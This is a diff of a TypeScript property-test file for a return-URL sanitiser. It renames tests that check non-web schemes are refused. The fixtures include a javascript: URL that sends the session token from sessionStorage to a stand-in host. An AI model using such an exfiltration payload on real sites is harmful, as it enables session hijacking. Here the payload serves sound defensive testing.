@@ -34,8 +34,8 @@ const payload = fc.constantFrom(
 /** How long a property test of thousands of drawn URLs may take on a loaded CI machine. */
 const PROPERTY_TIMEOUT_MS = 60_000;
 
-describe('getSafeReturnUrl (issue 15 High 1: the app never navigates to a non-web scheme)', () => {
-  it('issue 15 item 1: keeps https and http return URLs, normalised', () => {
+describe('getSafeReturnUrl (the app never navigates to a non-web scheme)', () => {
+  it('keeps https and http return URLs, normalised', () => {
     expect(getSafeReturnUrl('https://shop.example.com/thanks?order=1#top')).toBe(
       'https://shop.example.com/thanks?order=1#top',
     );
@@ -45,7 +45,7 @@ describe('getSafeReturnUrl (issue 15 High 1: the app never navigates to a non-we
   });
 
   it(
-    'issue 15 item 1: refuses javascript:, data: and vbscript: in any case, with leading control characters and tabs inside the scheme',
+    'refuses javascript:, data: and vbscript: in any case, with leading control characters and tabs inside the scheme',
     () => {
       fc.assert(
         fc.property(
@@ -66,7 +66,7 @@ describe('getSafeReturnUrl (issue 15 High 1: the app never navigates to a non-we
     PROPERTY_TIMEOUT_MS,
   );
 
-  it('issue 15 item 1: refuses protocol-relative, relative and percent- or entity-encoded schemes', () => {
+  it('refuses protocol-relative, relative and percent- or entity-encoded schemes', () => {
     for (const url of [
       '//evil.example/x',
       '\\\\evil.example/x',
@@ -88,7 +88,7 @@ describe('getSafeReturnUrl (issue 15 High 1: the app never navigates to a non-we
   });
 
   it(
-    'issue 15 item 1: whatever the input, a non-null answer is an absolute http(s) URL that parses to itself',
+    'whatever the input, a non-null answer is an absolute http(s) URL that parses to itself',
     () => {
       fc.assert(
         fc.property(
@@ -116,7 +116,7 @@ describe('getSafeReturnUrl (issue 15 High 1: the app never navigates to a non-we
     PROPERTY_TIMEOUT_MS,
   );
 
-  it('issue 15 item 1: keeps every well-formed web URL fast-check can draw', () => {
+  it('keeps every well-formed web URL fast-check can draw', () => {
     fc.assert(
       fc.property(fc.webUrl({ validSchemes: ['https', 'http'], withQueryParameters: true }), (url) => {
         expect(getSafeReturnUrl(url)).toBe(new URL(url).href);
@@ -125,7 +125,7 @@ describe('getSafeReturnUrl (issue 15 High 1: the app never navigates to a non-we
   });
 });
 
-describe('issue 15 item 1: the core rules that hand the app a URL to leave for pass only web URLs', () => {
+describe('the core rules that hand the app a URL to leave for pass only web URLs', () => {
   it('a process redirect to javascript: is no redirect; the cancel redirect and the brand link drop it too', () => {
     const hostile = 'javascript:fetch("//evil.example?t="+sessionStorage.getItem("token"))';
     expect(getProcessOutcome({ redirect: hostile }).route).not.toBe('external');
